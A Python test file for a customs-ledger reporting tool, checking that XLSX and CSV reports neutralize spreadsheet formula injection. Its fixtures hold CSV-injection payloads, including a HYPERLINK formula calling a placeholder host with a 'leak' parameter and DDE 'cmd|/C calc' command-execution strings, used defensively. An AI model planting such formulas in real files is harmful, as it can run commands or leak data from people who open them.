"""Text from the data never becomes a live formula in a report a person opens.

XLSX reports are read back with openpyxl: no cell may be a formula (data type
``f``) and the sheet XML may hold no ``<f>`` element. Report CSVs follow
OWASP's CSV-injection advice (a leading apostrophe); the discharge contract's
CSV files stay exactly as the contract says.
"""

from __future__ import annotations

import csv
import datetime as dt
import zipfile
from decimal import Decimal
from fractions import Fraction
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from typer.testing import CliRunner

from immex.cli import app
from immex.compulsa.model import Difference
from immex.compulsa.service import CompulsaResult
from immex.compulsa.xlsx import write_compulsa_xlsx
from immex.core.table_files import FORMULA_TRIGGERS, formula_like, spreadsheet_text, write_csv, write_xlsx
from immex.duties import landed_chart
from immex.duties.landed import REGIMES, RegimeCost
from tests.ledger.ledger_files import exp, imp, part, read_csv, write_ledger

LINK = '=HYPERLINK("http://example.invalid/?leak=1","click")'
HOSTILE = [LINK, "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=1+1"]
I1, I2, I3 = "25 47 3456 5000001", "25 47 3456 5000002", "25 47 3456 5000003"
E1 = "25 47 3456 6000001"


def assert_no_formula(path: Path) -> list[object]:
    """Every cell of every sheet is a value, none a formula; returns all the string values."""
    book = load_workbook(path)
    texts: list[object] = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value}"
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    return texts


def hostile_ledger(folder: Path) -> Path:
    """Part codes that are formulas: one discharged, one open, one short."""
    return write_ledger(
        folder,
        parts=[part(LINK), part("@SUM(1+1)"), part("-2+3")],
        imports=[
            imp(I1, 1, LINK, "5", "2025-01-01"),
            imp(I2, 1, "@SUM(1+1)", "5", "2025-01-01"),
            imp(I3, 1, "-2+3", "1", "2025-01-01"),
        ],
        exports=[exp(E1, 1, LINK, "3", "2025-02-01"), exp(E1, 2, "-2+3", "4", "2025-02-01")],
    )


@pytest.mark.parametrize(
    "command",
    [
        ["balances", "--as-of", "2025-03-01"],
        ["aging", "--as-of", "2025-03-01"],
        ["expiring", "--days", "9999", "--as-of", "2025-03-01"],
        ["trace-export", E1],
        ["trace-import", I1],
        ["shortfalls"],
    ],
)
def test_every_ledger_report_writes_a_formula_part_code_as_text(tmp_path: Path, command: list[str]) -> None:
    hostile_ledger(tmp_path / "in")
    out = tmp_path / "report.xlsx"
    result = CliRunner().invoke(
        app, ["report", *command, "--input", str(tmp_path / "in"), "--output", str(out)]
    )
    assert result.exit_code == 0, result.output
    texts = assert_no_formula(out)
    expected = "-2+3" if command[0] == "shortfalls" else LINK
    assert expected in texts  # the exact text, readable, not an apostrophe-mangled copy


def test_formula_like_text_is_quote_prefixed_so_excel_keeps_it_text_when_edited(tmp_path: Path) -> None:
    out = tmp_path / "t.xlsx"
    write_xlsx(out, {"t": (("part", "qty"), [(text, 1) for text in HOSTILE] + [("plain", 2), ("-12.5", 3)])})
    assert_no_formula(out)
    sheet = load_workbook(out)["t"]
    prefixed = [row[0].quotePrefix for row in sheet.iter_rows(min_row=2)]
    assert prefixed == [True] * len(HOSTILE) + [False, False]  # "plain" and "-12.5" need no prefix


def test_compulsa_workbook_holds_no_formula_from_ledger_or_datastage(tmp_path: Path) -> None:
    differences = (
        Difference("260739216000001", 1, "hs", LINK, "@SUM(1+1)", "mismatch"),
        Difference("260739216000001", 2, "qty", "=1+1", "-2+3", "mismatch"),
    )
    result = CompulsaResult(
        differences, 1, 2, 1, 2, None, "", LINK, "0" * 64, "=cmd|'/c calc'!A0", "0" * 64, (), ()
    )
    out = tmp_path / "compulsa.xlsx"
    write_compulsa_xlsx(result, out)
    texts = assert_no_formula(out)
    assert {LINK, "@SUM(1+1)", "=1+1", "-2+3", "=cmd|'/c calc'!A0"} <= set(texts)


def _cost(part_code: str) -> RegimeCost:
    return RegimeCost(
        part_code,
        "definitive",
        True,
        "=1+1",
        Decimal("10"),
        1,
        100,
        5,
        0,
        1,
        16,
        None,
        Fraction(0),
        0,
        0,
        Fraction(122),
        Fraction(-3),
    )


def test_landed_cost_workbook_and_csv_neutralize_formula_part_numbers(tmp_path: Path) -> None:
    tables = [("base", [_cost(LINK)])]
    out = tmp_path / "landed.xlsx"
    landed_chart.write_xlsx(tables, [("base", {r: Fraction(1) for r in REGIMES})], out)
    assert LINK in assert_no_formula(out)
    landed_chart.write_csv(tables, tmp_path / "landed.csv")
    with (tmp_path / "landed.csv").open(newline="", encoding="utf-8") as handle:
        row = next(csv.DictReader(handle))
    assert row["part"] == "'" + LINK and row["reason"] == "'=1+1"
    assert row["savings_vs_definitive"] == "-3.00"  # a negative number is a number, not a formula


def test_report_csv_gets_owasp_apostrophe_but_contract_csvs_stay_exact(tmp_path: Path) -> None:
    hostile_ledger(tmp_path / "in")
    runner = CliRunner()
    report = tmp_path / "balances.csv"
    result = runner.invoke(
        app,
        [
            "report",
            "balances",
            "--input",
            str(tmp_path / "in"),
            "--as-of",
            "2025-03-01",
            "--output",
            str(report),
        ],
    )
    assert result.exit_code == 0, result.output
    parts = [row["part"] for row in read_csv(report)]
    assert parts == ["'" + LINK, "'@SUM(1+1)", "'-2+3"]
    result = runner.invoke(
        app,
        [
            "discharge",
            "--input",
            str(tmp_path / "in"),
            "--output",
            str(tmp_path / "out"),
            "--as-of",
            "2025-03-01",
        ],
    )
    assert result.exit_code == 0, result.output
    allocations = (tmp_path / "out" / "allocations.csv").read_text(encoding="utf-8")
    assert allocations.splitlines()[1] == (
        '254734566000001,1,"=HYPERLINK(""http://example.invalid/?leak=1"",""click"")",'
        '"=HYPERLINK(""http://example.invalid/?leak=1"",""click"")",254734565000001,1,3,false'
    )
    assert [r["part"] for r in read_csv(tmp_path / "out" / "shortfalls.csv")] == ["-2+3"]
    assert [r["part"] for r in read_csv(tmp_path / "out" / "balances.csv")] == [LINK, "@SUM(1+1)", "-2+3"]


def test_values_that_are_not_text_are_never_prefixed(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    write_csv(path, ("a", "b", "c", "d"), [(Decimal("-1.5"), -3, dt.date(2025, 1, 2), "-7")])
    assert path.read_text(encoding="utf-8").splitlines()[1] == "-1.5,-3,2025-01-02,-7"


@given(st.text())
def test_spreadsheet_text_never_starts_a_formula_and_loses_nothing(text: str) -> None:
    shown = spreadsheet_text(text)
    if shown.startswith(FORMULA_TRIGGERS):
        assert not formula_like(shown)  # only a plain number may start with + or -
        assert shown == text
    assert shown in (text, "'" + text)
    assert (shown != text) == formula_like(text)
